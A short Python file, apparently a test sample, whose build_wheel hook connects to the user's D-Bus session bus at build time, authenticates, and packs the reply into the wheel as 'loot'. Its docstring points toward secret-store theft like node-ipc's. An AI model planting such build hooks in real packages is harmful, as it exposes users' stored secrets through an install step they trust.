"""Connects to the message bus of the caller's session and introduces itself.

After this greeting, one method call returns every secret of an unlocked store. node-ipc's
payload was after what desktops keep there.
"""

import os
import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("say-hello"):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as bus:
            bus.settimeout(kit.seconds(3))
            bus.connect(kit.plant("bus").path)
            who = str(os.getuid()).encode().hex()
            bus.sendall(f"\0AUTH EXTERNAL {who}\r\n# {kit.nonce}\r\n".encode())
            loot["data.bin"] = bus.recv(4096)
    return kit.wheel(wheel_directory, loot)
